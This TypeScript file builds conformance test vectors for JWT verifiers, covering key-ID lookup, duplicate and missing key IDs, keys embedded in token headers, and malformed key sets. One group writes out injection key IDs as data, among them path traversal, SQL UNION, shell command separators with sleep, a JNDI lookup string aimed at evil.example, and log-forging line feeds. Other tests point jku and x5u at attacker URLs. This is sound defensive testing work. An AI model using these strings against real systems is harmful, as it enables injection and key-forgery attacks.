/**
 * Key sets (RFC 7517 §5): which key a token means, and sets that are not quite sets.
 *
 * @module
 */

import { certificatePem } from './certificate.ts';
import { jwkSet, publicJwk, storedKey, type Jwk } from './keys.ts';
import { pemGroup, textualGroup } from './pem.ts';
import { hmac, signer, strangeRsa, type Signer } from './sign.ts';
import { NOW, claims, compact, header, jwt, jwtBy, jwtWithHeader } from './token.ts';
import {
  jwtGroup, mayRefuse, must, should, valid, vectorFile, type Group, type Test, type VectorFile,
} from './vectors.ts';

const keyed = (kid: unknown, by = 'rsa-1'): string => compact({ alg: 'RS256', kid }, claims(), signer(by, 'RS256'));
const unnamed = (name: string): Jwk => publicJwk(name, { kid: undefined });
const named = (name: string, kid: unknown): Jwk => publicJwk(name, { kid });
const junk = (count: number): Jwk[] => Array.from({ length: count }, () => ({}));

function selectionGroup(): Group {
  // RFC 7515 §4.1.4 calls "kid" a hint: whoever tries the other keys of the set too breaks no rule.
  const notFound = (comment: string, kid: unknown): Test => should('key_not_found', comment, keyed(kid), 'C6');
  return jwtGroup('A token with a key ID means the key that bears exactly it.', [
    valid('The first of two keys.', keyed('rsa-1')),
    valid('The second of two keys.', keyed('rsa-2', 'rsa-2')),
    should('signature_invalid', 'The token names the second key and is signed by the first.', keyed('rsa-2'), 'C6'),
    should('signature_invalid', 'The token names the first key and is signed by the second.', keyed('rsa-1', 'rsa-2'),
      'C6'),
    notFound('A key ID that no key bears.', 'rsa-3'),
    notFound('A key ID in another case.', 'RSA-1'),
    notFound('A key ID with a space behind it.', 'rsa-1 '),
    notFound('The beginning of a key ID.', 'rsa'),
    notFound('A key ID and more.', 'rsa-10'),
    notFound('The empty key ID.', ''),
    notFound('Two key IDs, joined by a comma.', 'rsa-1,rsa-2'),
    notFound('A key ID with a wildcard.', 'rsa-*'),
    notFound('A key ID with another hyphen (U+2010).', 'rsa\u20101'),
  ], { keys: jwkSet('rsa-1', 'rsa-2') });
}

function injectionGroup(): Group {
  const injected = (comment: string, kid: string, by?: Signer): Test => (
    by === undefined
      ? should('key_not_found', comment, keyed(kid), 'C3')
      : must('algorithm_not_allowed', comment, compact({ alg: 'HS256', kid }, claims(), by), 'C3')
  );
  const onEveryObject = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'length', 'keys', '0'];
  return jwtGroup('Key IDs that are meant for something else than a look-up.', [
    injected('A path out of the directory of keys, to a file that is empty.', '../../../../../../dev/null'),
    injected('The same, with an HMAC under the empty key.', '../../../../../../dev/null', hmac('')),
    injected('A path that ends where it began.', '../keys/rsa-1'),
    injected('A query in SQL that yields a chosen key.', "x' UNION SELECT 'AAAA' -- "),
    injected('A command for a shell.', 'rsa-1; sleep 10'),
    injected('A command behind a pipe.', '| /bin/sleep 10 ||'),
    injected('An address to fetch a key from.', 'https://evil.example/key.json'),
    injected('A NUL behind a genuine key ID.', 'rsa-1\0.pem'),
    injected('A line feed and a forged line for a log.', 'rsa-1\n2023-11-14 accepted user-1'),
    injected('A sequence of escape for a terminal.', '\u001b[2Jrsa-1'),
    injected('A template for a logger.', '${jndi:ldap://evil.example/a}'),
    injected('A format string.', '%s%s%n'),
    ...onEveryObject.map(
      (kid) => should('key_not_found', `"${kid}", which some languages find on objects or arrays.`, keyed(kid), 'C5'),
    ),
    valid('A key whose ID is "__proto__" is a key.', keyed('__proto__'), 'C5 Control',
      { keys: jwkSet(named('rsa-1', '__proto__')) }),
    valid('A key whose ID is a path is a key.', keyed('../a b/\u00e9'), 'C3 Control',
      { keys: jwkSet(named('rsa-1', '../a b/\u00e9')) }),
    should('key_not_found', 'The key ID of the set is composed, that of the token decomposed.', keyed('e\u0301'), 'C6',
      { keys: jwkSet(named('rsa-1', '\u00e9'), 'rsa-2') }),
  ], { keys: jwkSet('rsa-1', 'rsa-2') });
}

function unnamedGroup(): Group {
  const on = (...keys: Array<string | Jwk>): { keys: Jwk } => ({ keys: jwkSet(...keys) });
  const many = { keys: jwkSet('rsa-1', 'rsa-2', 'ec-1', 'ed-1', 'ec-384'), policy: { algorithms: ['RS256', 'ES256'] } };
  const five = ['rsa-1', 'rsa-2', 'rsa-4096', 'rsa-8192'].map((name) => publicJwk(name));
  const fifth = publicJwk('rsa-near-roca');
  return jwtGroup('Tokens or keys without a key ID, and key IDs that are borne twice.', [
    valid('A token without a key ID, and one key.', keyed(undefined), 'C6 Control', on('rsa-1')),
    mayRefuse(valid('A token without a key ID, and two keys: the second signed.', keyed(undefined, 'rsa-2'),
      'C6 Control', on('rsa-1', 'rsa-2'))),
    mayRefuse(valid('A token without a key ID, and four keys: the last signed.', keyed(undefined), 'C6 Control',
      on(...five.slice(1), five[0] ?? ''))),
    should('key_unusable', 'A token without a key ID, and five keys: more than will be tried.', keyed(undefined), 'C6',
      on(...five, fifth)),
    mayRefuse(valid('A token without a key ID, and five keys, of which two fit its algorithm.',
      keyed(undefined, 'rsa-2'), 'C6 Control', many)),
    must('signature_invalid', 'A token without a key ID, and two keys, neither of which signed.',
      keyed(undefined, 'rsa-4096'), 'C6', on('rsa-1', 'rsa-2')),
    mayRefuse(valid('A token with a key ID, and one key that has none.', keyed('rsa-1'), 'C6 Control',
      on(unnamed('rsa-1')))),
    should('key_not_found', 'A token with a key ID, and two keys that have none.', keyed('rsa-1'), 'C6',
      on(unnamed('rsa-1'), unnamed('rsa-2'))),
    should('key_not_found', 'A token with a key ID, the key that signed without one, and another with another.',
      keyed('rsa-1'), 'C6', on(unnamed('rsa-1'), 'rsa-2')),
    should('key_not_found', 'A token with a key ID, and one key that has another, which signed.', keyed('rsa-3'), 'C6',
      on('rsa-1')),
    should('key_unusable', 'Two keys of one ID and algorithm: the first signed.', keyed('a'), 'C6',
      on(named('rsa-1', 'a'), named('rsa-2', 'a'))),
    should('key_unusable', 'Two keys of one ID and algorithm: the last signed.', keyed('a', 'rsa-2'), 'C6',
      on(named('rsa-1', 'a'), named('rsa-2', 'a'))),
    valid('Two keys of one ID and different types: the token says which.', keyed('a'), 'C6 Control',
      on(named('ec-1', 'a'), named('rsa-1', 'a'))),
    valid('Two keys of one ID, one of them for encryption.', keyed('a'), 'C6 Control',
      on(publicJwk('rsa-2', { kid: 'a', use: 'enc' }), named('rsa-1', 'a'))),
    should('key_unusable', 'The same key twice, under one ID.', keyed('a'), 'C6',
      on(named('rsa-1', 'a'), named('rsa-1', 'a'))),
    valid('The same key under two IDs.', keyed('b'), 'C6 Control', on(named('rsa-1', 'a'), named('rsa-1', 'b'))),
    should('key_not_found', 'The key ID of the key is a number, that of the token the same digits.', keyed('1'), 'C4',
      on(named('rsa-1', 1))),
  ]);
}

/** Keys that come with the token, and where it says to fetch them from. */
function broughtGroup(): Group {
  const forger = publicJwk('rsa-2', { kid: 'rsa-1' });
  const pem = certificatePem('rsa-2', NOW - 1000, NOW + 1000);
  const x5c = [pem.replace(/-----[A-Z ]+-----|\n/g, '')];
  const url = 'https://evil.example/keys.json';
  const forged = (refusal: string, comment: string, members: Jwk, flag: string): Test => (
    must(refusal, comment, jwtWithHeader(members, signer('rsa-2', 'RS256')), flag)
  );
  return jwtGroup('Keys that come with the token: never used, whoever signed.', [
    forged('signature_invalid', '"jwk" has the forger\'s key, under the key ID of ours.', { jwk: forger }, 'C1'),
    forged('signature_invalid', '"jwk" has the forger\'s key, and the token has no key ID.',
      { jwk: forger, kid: undefined }, 'C1'),
    forged('key_not_found', '"jwk" has the forger\'s key, and the token its key ID.',
      { jwk: publicJwk('rsa-2'), kid: 'rsa-2' }, 'C1'),
    forged('signature_invalid', '"jwks" has the forger\'s key.', { jwks: { keys: [forger] } }, 'C1'),
    forged('signature_invalid', '"x5c" has the forger\'s certificate.', { x5c }, 'C1'),
    forged('key_not_found', '"x5c" has the forger\'s certificate, "kid" another name.', { x5c, kid: 'cert' }, 'C1'),
    forged('signature_invalid', '"jku" says where the forger\'s keys are.', { jku: url }, 'C2'),
    forged('key_not_found', '"jku" says where to find the key of that name.', { jku: url, kid: 'rsa-2' }, 'C2'),
    forged('signature_invalid', '"x5u" says where the forger\'s certificate is.',
      { x5u: 'https://evil.example/cert.pem' }, 'C2'),
    forged('signature_invalid', '"jku" points to this machine.', { jku: 'http://127.0.0.1:9/keys.json' }, 'C2'),
    forged('signature_invalid', '"jku" points to a file.', { jku: 'file:///dev/zero' }, 'C2'),
    must('algorithm_not_allowed', '"jwk" has a symmetric key, and the token an HMAC under it.',
      compact({ alg: 'HS256', jwk: { kty: 'oct', k: 'AAAA' } }, claims(), hmac(Buffer.alloc(3))), 'C1'),
    valid('"jwk", "jku", "x5u" and "x5c" in a genuine token count for nothing.',
      jwtWithHeader({ jwk: forger, jku: url, x5u: url, x5c }), 'C1 C2 Control'),
    valid('"jku", "x5u", "jwk" and "x5c" of wrong types count for nothing either.',
      jwtWithHeader({ jku: 1, x5u: null, jwk: 'x', x5c: {} }), 'C1 C2 Control'),
  ]);
}

function shapeGroup(): Group {
  const good = publicJwk('rsa-1');
  const shaped = (comment: string, keys: unknown): Test => must('key_unusable', comment, jwt(), 'C9', { keys });
  const skipped = (comment: string, ...members: unknown[]): Test => valid(comment, jwt(), 'C9 Control',
    { keys: { keys: [...members, good] } });
  // RFC 7517 §5: such members SHOULD be ignored. Whoever refuses the set for them may.
  const mayBeSkipped = (comment: string, ...members: unknown[]): Test => mayRefuse(skipped(comment, ...members));
  return jwtGroup('The shape of a set. Members that cannot be used are left out, and their neighbours stay.', [
    shaped('"keys" is an object.', { keys: { 'rsa-1': good } }),
    shaped('"keys" is a JWK.', { keys: good }),
    shaped('"keys" is null.', { keys: null }),
    shaped('"keys" is a string of JSON.', { keys: JSON.stringify([good]) }),
    shaped('"keys" is a number.', { keys: 1 }),
    valid('An array of JWKs, without the object around it.', jwt(), 'C9 Control', { keys: [good] }),
    valid('One JWK.', jwt(), 'C9 Control', { keys: good }),
    valid('A set with members that nobody knows.', jwt(), 'C9 Control',
      { keys: { keys: [good], x: 1, issuer: 'https://evil.example' } }),
    mayBeSkipped('A member is null.', null),
    mayBeSkipped('Members are strings, numbers, true and an array.', 'x', 1, true, [good]),
    mayBeSkipped('A member is an empty object.', {}),
    mayBeSkipped('A member of a type that nobody knows.', { kty: 'AKP', alg: 'ML-DSA-44', pub: 'AAAA' }),
    mayBeSkipped('A member of a curve that nobody knows.', publicJwk('ec-k1')),
    mayBeSkipped('A member that is no point of its curve.', publicJwk('ec-1', { y: publicJwk('ec-1')['x'] })),
    skipped('A member that is too weak.', publicJwk('rsa-1024')),
    mayBeSkipped('A member that is weak, and bears the same key ID as a good one.',
      publicJwk('rsa-1024', { kid: 'rsa-1' })),
    skipped('A member that is a private key.', publicJwk('rsa-2', { d: storedKey('rsa-2').d })),
    skipped('A member for encryption.', publicJwk('rsa-2', { use: 'enc' })),
    must('key_not_found', 'An empty set.', jwt(), 'C9', { keys: { keys: [] } }),
    must('key_not_found', 'A set whose only member is null.', jwt(), 'C9', { keys: { keys: [null] } }),
    must('key_not_found', 'A set whose only member is too weak, and signed.',
      compact(header({ kid: 'rsa-1024' }), claims(), strangeRsa('rsa-1024')), 'C9 B7', { keys: jwkSet('rsa-1024') }),
    should('key_not_found', 'A set whose only member is a private key.', jwt(), 'C9 B12',
      { keys: jwkSet(publicJwk('rsa-1', { d: storedKey('rsa-1').d })) }),
    should('key_not_found', 'The token names a member that was left out, beside a good one that signed.',
      keyed('rsa-1024'), 'C9',
      { keys: jwkSet('rsa-1024', 'rsa-1') }),
    mayBeSkipped('256 members, of which one is a key.', ...junk(255)),
    should('key_unusable', '257 members, of which one is a key.', jwt(), 'C9',
      { keys: { keys: [...junk(256), good] } }),
    should('key_unusable', 'A symmetric key beside a public one: the whole set is refused.', jwt(), 'B12',
      { keys: jwkSet('rsa-1', 'hs-1') }),
    should('key_unusable', 'A symmetric key beside a public one, and a genuine HMAC under it.',
      jwtBy('hs-1', 'HS256'), 'B12', { keys: jwkSet('rsa-1', 'hs-1'), policy: { algorithms: ['HS256'] } }),
    must('algorithm_not_allowed', 'A symmetric key alone, where RS256 is demanded.', keyed('hs-1'), 'B12',
      { keys: jwkSet('hs-1') }),
    valid('Two symmetric keys, where HS256 is demanded.', jwtBy('hs-2', 'HS256'), 'C9 Control',
      { keys: jwkSet('hs-1', 'hs-2'), policy: { algorithms: ['HS256'] } }),
  ]);
}

export function keySetVectors(): VectorFile {
  return vectorFile('key-set', 'Key sets', [
    'Which key a token means, keys that it brings along, and sets that are not quite sets.',
    'Many tests have keys of their own. Keys in PEM are for verifiers that take them.',
  ], [selectionGroup(), injectionGroup(), unnamedGroup(), broughtGroup(), shapeGroup(), pemGroup(), textualGroup()]);
}
